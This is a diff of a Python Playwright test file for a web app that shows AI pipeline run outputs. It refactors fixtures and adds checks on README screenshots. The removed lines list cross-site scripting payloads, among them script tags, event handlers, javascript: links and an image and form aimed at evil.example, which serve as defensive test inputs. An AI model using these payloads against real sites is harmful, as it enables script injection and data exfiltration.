@@ -2,19 +2,24 @@
 
 from __future__ import annotations
 
+import os
 import re
+import struct
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
 from typing import Any
 
 import pytest
-from flask import Flask
 
+from artifacts_app import recording
+from artifacts_app.extensions import db
 from artifacts_app.models import PipelineRun, User
-from tests.browser.conftest import LiveServer, PageWatch
-from tests.browser.test_list_browser import sign_in
-from tests.factories import make_run, make_user
+from tests.browser.conftest import LiveServer, PageWatch, sign_in
+from tests.factories import HOSTILE_OUTPUTS, make_run, steps
 
-SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
+# `make screenshots` names docs/screenshots here to refresh the README's pictures; otherwise they go
+# to the test's temporary folder, so a test run never rewrites tracked files.
+SCREENSHOTS_VARIABLE = "SCREENSHOTS_DIR"
 CODE_STEP = """# Findings
 
 | Option | Cost | Notes |
@@ -30,20 +35,10 @@ def next_page(rows, cursor):
 """
 
 
-def steps(*outputs: str) -> list[dict[str, Any]]:
-    names = ["Researcher", "Analyst", "Writer"]
-    return [{"agentId": n.lower(), "agentName": n, "output": o, "stepOrder": i}
-            for i, (n, o) in enumerate(zip(names, outputs))]
-
-
 @pytest.fixture
-def reader(app: Flask) -> User:
-    return make_user("reader@example.com")
-
-
-@pytest.fixture
-def run(reader: User) -> PipelineRun:
-    return make_run(reader, steps=steps("alpha output", CODE_STEP, "gamma output"), final_output="omega output")
+def run(user: User) -> PipelineRun:
+    """A run of three steps, the second a table and Python code."""
+    return make_run(user, steps=steps("alpha output", CODE_STEP, "gamma output"), final_output="omega output")
 
 
 def panel_text(page: Any) -> str:
@@ -51,10 +46,10 @@ def panel_text(page: Any) -> str:
 
 
 def test_tabs_switch_without_reload_carry_the_url_and_load_once(
-    watched_page: tuple[Any, PageWatch], reader: User, run: PipelineRun
+    watched_page: tuple[Any, PageWatch], user: User, run: PipelineRun
 ) -> None:
     page, watch = watched_page
-    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}")
+    sign_in(page, user.email, next_path=f"/artifacts/{run.id}")
     page.evaluate("window.__marker = 'same page'")
     for number, text in ((1, "alpha output"), (2, "Findings"), (3, "gamma output")):
         page.click(f"#tab-step-{number}")
@@ -76,10 +71,10 @@ def test_tabs_switch_without_reload_carry_the_url_and_load_once(
 
 
 def test_a_reload_on_a_tab_url_opens_that_tab_and_arrows_move(
-    watched_page: tuple[Any, PageWatch], reader: User, run: PipelineRun
+    watched_page: tuple[Any, PageWatch], user: User, run: PipelineRun
 ) -> None:
     page, _ = watched_page
-    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}?tab=step-2")
+    sign_in(page, user.email, next_path=f"/artifacts/{run.id}?tab=step-2")
     page.reload()
     assert page.get_attribute("#tab-step-2", "aria-selected") == "true"
     assert "Findings" in panel_text(page)
@@ -95,25 +90,16 @@ def test_a_reload_on_a_tab_url_opens_that_tab_and_arrows_move(
     assert page.evaluate("document.activeElement.id") == "tab-step-3"
 
 
-def test_hostile_output_does_nothing(watched_page: tuple[Any, PageWatch], reader: User) -> None:
+def test_hostile_output_does_nothing(watched_page: tuple[Any, PageWatch], user: User) -> None:
     page, watch = watched_page
-    hostile = "\n\n".join([
-        "<script>window.__pwned = 'script'</script>",
-        "<img src=x onerror=\"window.__pwned='onerror'\">",
-        "<svg onload=\"window.__pwned='svg'\"></svg>",
-        "[click me](javascript:window.__pwned='link')",
-        '<a href="javascript:window.__pwned=1">raw link</a>',
-        "![leak](https://evil.example/collect?secret=1)",
-        '<div hx-get="/logout" hx-trigger="load">htmx attack</div>',
-        "<form action=https://evil.example><button id=evil-submit>go</button></form>",
-        "<textarea>unclosed",
-    ])
-    run = make_run(reader, steps=steps(hostile), final_output=hostile)
+    hostile = "\n\n".join(HOSTILE_OUTPUTS)  # the unclosed <textarea> last
+    run = make_run(user, steps=steps(hostile), final_output=hostile)
     page.on("dialog", lambda dialog: watch.console_errors.append(f"dialog: {dialog.message}"))
-    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}")
+    sign_in(page, user.email, next_path=f"/artifacts/{run.id}")
     page.click("#tab-step-1")
     page.wait_for_url(re.compile(r"tab=step-1$"))
-    page.wait_for_timeout(300)
+    page.wait_for_function("document.querySelector('#panel-step-1').innerText.includes('htmx attack')")
+    page.wait_for_function("!document.querySelector('.htmx-request, .htmx-swapping, .htmx-settling')")
     for link in page.locator("[role=tabpanel]:not([hidden]) .markdown a").all():
         link.click(modifiers=["Control"], no_wait_after=True)  # a click must not run script
     assert page.evaluate("window.__pwned") is None
@@ -124,10 +110,10 @@ def test_hostile_output_does_nothing(watched_page: tuple[Any, PageWatch], reader
 
 
 def test_raw_view_and_without_javascript_tabs_are_links(
-    browser: Any, live_server: LiveServer, watched_page: tuple[Any, PageWatch], reader: User, run: PipelineRun
+    browser: Any, live_server: LiveServer, watched_page: tuple[Any, PageWatch], user: User, run: PipelineRun
 ) -> None:
     page, _ = watched_page
-    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}?tab=step-2")
+    sign_in(page, user.email, next_path=f"/artifacts/{run.id}?tab=step-2")
     page.check("#view-step-2-raw")
     raw = page.locator("#view-step-2-source")
     assert raw.is_visible() and "```python" in raw.inner_text()
@@ -135,7 +121,7 @@ def test_raw_view_and_without_javascript_tabs_are_links(
     context = browser.new_context(base_url=live_server.url, java_script_enabled=False)
     try:
         plain = context.new_page()
-        sign_in(plain, reader.email, next_path=f"/artifacts/{run.id}")
+        sign_in(plain, user.email, next_path=f"/artifacts/{run.id}")
         plain.click("#tab-step-3")
         plain.wait_for_url(re.compile(r"tab=step-3$"))
         assert "gamma output" in plain.locator("#panel-step-3").inner_text()
@@ -143,33 +129,62 @@ def test_raw_view_and_without_javascript_tabs_are_links(
         context.close()
 
 
+def png_size(path: Path) -> tuple[int, int]:
+    """Width and height from a PNG's header."""
+    data = path.read_bytes()
+    assert data[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
+    return struct.unpack(">II", data[16:24])
+
+
+def assert_fits_and_follows_the_scheme(page: Any, scheme: str) -> None:
+    """Nothing wider than the viewport (no sideways scrolling) and the colours of the scheme asked for."""
+    widths = page.evaluate("({page: document.documentElement.scrollWidth, viewport: window.innerWidth})")
+    assert widths["page"] <= widths["viewport"], widths
+    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
+    red, green, blue = map(int, re.findall(r"\d+", background)[:3])
+    assert (red + green + blue < 3 * 64) is (scheme == "dark"), background
+
+
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 def test_screenshots_for_the_readme(
-    browser: Any, live_server: LiveServer, reader: User, run: PipelineRun, scheme: str, engine_name: str
+    browser: Any, live_server: LiveServer, user: User, run: PipelineRun, scheme: str, tmp_path: Path
 ) -> None:
-    if engine_name != "sqlite":
-        pytest.skip("one set of screenshots is enough")
-    from artifacts_app import recording
-    from artifacts_app.extensions import db
-    from datetime import datetime, timedelta, timezone
-
+    folder = Path(os.environ.get(SCREENSHOTS_VARIABLE) or tmp_path).resolve()
+    folder.mkdir(parents=True, exist_ok=True)
     now = datetime.now(timezone.utc)
-    for index, (pipeline, model) in enumerate([("Code review", "claude-sonnet-4-5-20250929"),
-                                               ("Support triage", "gpt-4o-mini"), ("Release notes", "mistral-large-latest"),
-                                               ("Data extraction", "gemini-2.5-flash"), ("Research brief", "llama-3.1-70b-local")] * 3):
-        recording.record_from_values(reader, pipeline=pipeline, input="demo", model=model, steps=steps("a", "b"),
+    pipelines = [("Code review", "claude-sonnet-4-5-20250929"), ("Support triage", "gpt-4o-mini"),
+                 ("Release notes", "mistral-large-latest"), ("Data extraction", "gemini-2.5-flash"),
+                 ("Research brief", "llama-3.1-70b-local")] * 3
+    for index, (pipeline, model) in enumerate(pipelines):
+        recording.record_from_values(user, pipeline=pipeline, input="demo", model=model, steps=steps("a", "b"),
                              final_output="done", usage={"inputTokens": 1200 * (index + 1), "outputTokens": 310 * (index + 2)},
                              created_at=now - timedelta(hours=index, seconds=95), completed_at=now - timedelta(hours=index))
     db.session.commit()
-    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
-    context = browser.new_context(base_url=live_server.url, viewport={"width": 1280, "height": 820}, color_scheme=scheme)
+    width, height = 1280, 820
+    context = browser.new_context(base_url=live_server.url, viewport={"width": width, "height": height},
+                                  color_scheme=scheme)
     try:
         page = context.new_page()
-        sign_in(page, reader.email)
+        sign_in(page, user.email)
         page.wait_for_selector("#totals strong")
-        page.screenshot(path=str(SCREENSHOTS / f"list-{scheme}.png"))
+        # The list: the 16 runs, newest first, their total, the filters; nothing off to the side.
+        assert page.locator("tr.run-row").count() == 16
+        assert page.locator("tr.run-row td.pipeline").first.inner_text() == "Code review"
+        assert page.locator("#totals strong").first.inner_text() == "16"
+        assert page.locator("tr.list-end").count() == 1
+        assert_fits_and_follows_the_scheme(page, scheme)
+        page.screenshot(path=str(folder / f"list-{scheme}.png"))
+
         page.goto(f"/artifacts/{run.id}?tab=step-2")
-        page.screenshot(path=str(SCREENSHOTS / f"detail-{scheme}.png"), full_page=True)
+        # The run's page on its second step: the table and the highlighted code are shown.
+        assert page.get_attribute("#tab-step-2", "aria-selected") == "true"
+        panel = page.locator("#panel-step-2")
+        assert panel.locator("table").count() == 1 and panel.locator("pre .k").count() >= 1
+        assert "Findings" in panel.inner_text() and "def next_page" in panel.inner_text()
+        assert_fits_and_follows_the_scheme(page, scheme)
+        page.screenshot(path=str(folder / f"detail-{scheme}.png"), full_page=True)
     finally:
         context.close()
-    assert (SCREENSHOTS / f"list-{scheme}.png").stat().st_size > 10_000
+    assert png_size(folder / f"list-{scheme}.png") == (width, height)
+    detail_width, detail_height = png_size(folder / f"detail-{scheme}.png")
+    assert detail_width == width and detail_height >= height
